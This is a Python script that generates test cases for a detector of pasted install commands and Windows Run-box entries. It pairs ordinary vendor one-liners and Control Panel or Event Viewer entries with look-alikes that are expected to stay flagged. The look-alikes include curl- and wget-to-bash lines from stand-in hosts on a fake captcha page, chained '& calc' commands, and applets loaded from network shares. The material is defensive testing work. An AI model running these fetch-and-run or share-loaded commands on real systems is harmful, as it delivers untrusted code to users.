"""Writes tests/data/cases/b10benign.jsonl: installers and Run-box entries that were blocked or
warned about although they are ordinary, each beside the look-alikes that must stay flagged or
blocked.

    python tests/data/cases/make_b10benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, *.invalid).
No text is copied from a blind set, a lure collection or another detector's fixtures. Each line
is {id, text, expect, technique, platform, source, target}.

Principles:

- `own-page-camel-path`: a product's own install page whose address runs its words together in
  capitals (`/AMPInstall`, `/Docs/GettingStarted`, `/HowToInstallOnLinux`) is a page about
  software, read as a reader reads it. Its installer from a host the page's domain does not
  share (a vanity install host, get<name>.example) is what any such one-liner is without a tie:
  a warning, never a block. Look-alikes: the same download-and-run from pages whose capitals
  spell something else (a recipe, a match report, a booking) or a check page: still blocked.
- `run-box-applet-tab`: one of Windows' own Control Panel applets with its tab written apart
  from its name (`mmsys.cpl ,1`, `sysdm.cpl ,,3`, `main.cpl @1`), alone, after `control` or
  through `rundll32 shell32.dll,Control_RunDLL`: the same page as the joined form, which Windows
  finds among its own files. Look-alikes: an applet that is not Windows' own, something after
  the tab, a path or a share, another rundll32 entry point.
- `run-box-snapin-switch`: a console snap-in of Windows typed with its program's own switches
  (`eventvwr.msc /c:Application`, as `eventvwr /c:Application`), alone or after `mmc`, and with
  the console's switches. Look-alikes: the switch on another snap-in, a log file on a share, a
  snap-in that is not Windows' own, and the same entries written by a page (blocked) or a mail
  (still a warning): only a typed entry is the user's own.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b10benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
MAIL = "outlook"

# -- own install pages whose address runs its words together --------------------------------------

# (the product's own page, its installer from a vanity host the page's domain does not share)
CAMEL_OWN = [
    ("https://kestrelsoft.example/KestrelInstall", "bash <(wget -qO- getkestrel.example)"),
    ("https://kestrelsoft.example/KSInstall", "bash <(curl -fsSL https://getkestrel.example)"),
    ("https://www.harbourcode.example/Docs/GettingStarted", "curl -fsSL https://get.tarnwick.example | sh"),
    ("https://fenwickgames.example/GameServerSetup", "wget -qO- https://install.fenwick-srv.example/linux | bash"),
    ("https://brindlehq.example/HowToInstallOnLinux", "curl -sSL https://brindle-get.example/install.sh | sudo bash"),
    ("https://quillix.example/CLIReference", 'sh -c "$(curl -fsSL https://dl.qxtools.example/cli.sh)"'),
    ("https://loamworks.example/SelfHostedInstallation", "curl -fsSL https://getloam.example/i | bash -s -- --server"),
    ("https://www.pelletlabs.example/QuickStart", "curl -L https://pellet-releases.example/latest/install.sh | sh"),
    ("https://docs-portal.harrowfield.example/AgentDownloads", "bash <(curl -s https://harrowagent.example/get)"),
    ("https://marlow-ide.example/LinuxInstaller", "wget -O - https://getmarlow.example/setup | bash"),
    ("https://www.tarnwick.example/Wiki/InstallingTarnwick", "curl -fsSL https://gettarn.example | bash"),
    ("https://umbergrid.example/DockerSetup", "curl -fsSL https://umber-install.example/docker.sh | sh"),
]  # fmt: skip
CAMEL_STRANGERS = [
    "https://www.quillmere-bakery.example/ChickenCurryRecipe",
    "https://www.fenwick-fc.example/MatchReportSunday",
    "https://tarnwick-tv.example/SeasonFinaleRecap",
    "https://www.harbour-inn.example/HotelBookingConfirmation",
    "https://www.brindle-weddings.example/GalleryPhotos",
    "https://lakeside-news.example/LocalElectionResults",
    "https://www.marlow-garden.example/SpringPlantingTips",
    "https://www.pellet-travel.example/CheapFlightsToLisbon",
    "https://recaptcha-check.example/VerifyHuman",
    "https://www.kestrel-cafe.example/BrunchMenu",
]
STRANGER_SCRIPTS = [
    "curl -fsSL https://cdn.umbra-stage.test/a.sh | bash",
    "bash <(wget -qO- https://getkestrel.test)",
    "wget -qO- https://203.0.113.44/i | sh",
    'sh -c "$(curl -fsSL https://dl.loam-assets.invalid/run)"',
    "curl -sSL https://install.marlow.test | sudo bash",
]


def camel_pages(book: Book) -> None:
    for page, text in CAMEL_OWN:
        book.add("own-page-camel-path", text, "suspicious", "linux", TERMINAL, page)
    for i, page in enumerate(CAMEL_STRANGERS):
        for j in range(2):
            text = STRANGER_SCRIPTS[(i + j) % len(STRANGER_SCRIPTS)]
            book.add("camel-path-stranger", text, "malicious", "linux", TERMINAL, page)


# -- the Run box ----------------------------------------------------------------------------------

APPLET_TABS = [
    "mmsys.cpl ,1", "mmsys.cpl ,0", "mmsys.cpl ,,2", "sysdm.cpl ,3", "SYSDM.CPL ,,4",
    "main.cpl @1", "main.cpl ,2", "inetcpl.cpl ,4", "desk.cpl ,,5", "timedate.cpl ,1",
    "control mmsys.cpl ,,1", "control sysdm.cpl ,3", "control.exe inetcpl.cpl ,,6",
    "control main.cpl @1", "rundll32.exe shell32.dll,Control_RunDLL mmsys.cpl ,,1",
    "rundll32 shell32.dll,Control_RunDLL sysdm.cpl ,,2",
]  # fmt: skip
APPLET_LOOKALIKES = [
    "widget.cpl ,1", "mmsys.cpl ,1 calc", "mmsys.cpl ,1,2,3", "mmsys.cpl ,abc",
    r"control \\198.51.100.7\x\mmsys.cpl ,1", "control mmsys.cpl ,1 /name x",
    "rundll32.exe shell32.dll,Control_RunDLL widget.cpl ,,1",
    "rundll32.exe shell32.dll,ShellExec_RunDLL mmsys.cpl ,,1",
    "rundll32.exe url.dll,FileProtocolHandler mmsys.cpl ,1", "mmsys.cpl ,1 & calc",
]  # fmt: skip
SNAPIN_SWITCHES = [
    "eventvwr.msc /c:Application", "eventvwr.msc /c:System", "eventvwr.msc /c:Security",
    "eventvwr.msc /c:Setup /s", "mmc eventvwr.msc /c:Application",
    "mmc.exe eventvwr.msc /c:Microsoft-Windows-PowerShell/Operational",
    "eventvwr.msc /computer=ws-01 /c:System", r"eventvwr.msc /l:C:\Logs\app.evtx",
    r"eventvwr.msc /l:%USERPROFILE%\Desktop\saved.evtx", "EventVwr.msc /c:Application",
]  # fmt: skip
SNAPIN_LOOKALIKES = [
    "devmgmt.msc /c:Application", "services.msc /c:System", r"eventvwr.msc /l:\\198.51.100.7\x\a.evtx",
    "widget.msc /c:Application", "eventvwr.msc /c:Application /c:System",
    "eventvwr.msc /c:Application calc", r"eventvwr.msc /l:\\fs01@SSL\DavWWWRoot\a.evtx",
    "eventvwr.msc /c:https://cdn.umbra-stage.test/x", "mmc eventvwr.msc /c:System /x",
    r"mmc \\198.51.100.7\x\eventvwr.msc /c:System",
]  # fmt: skip
HELP_PAGE = "https://quick-fix.quillmere.example/sound-not-working"


def run_box(book: Book) -> None:
    for text in APPLET_TABS:
        book.add("run-box-applet-tab", text, "not_flagged", "windows", RUN)
    for text in APPLET_LOOKALIKES:
        book.add("applet-tab-lookalike", text, "flagged", "windows", RUN)
    for text in SNAPIN_SWITCHES:
        book.add("run-box-snapin-switch", text, "not_flagged", "windows", RUN)
    for text in SNAPIN_LOOKALIKES:
        book.add("snapin-switch-lookalike", text, "flagged", "windows", RUN)
    # typed entries only: the same switches written by a page or a mail are commands
    for i, text in enumerate(SNAPIN_SWITCHES):
        if i % 2:
            book.add("snapin-switch-written", text, "malicious", "windows", RUN, HELP_PAGE)
        else:
            book.add("snapin-switch-written", text, "flagged", "windows", RUN, MAIL)


def build() -> list[dict[str, str]]:
    book = Book("b10b")
    camel_pages(book)
    run_box(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
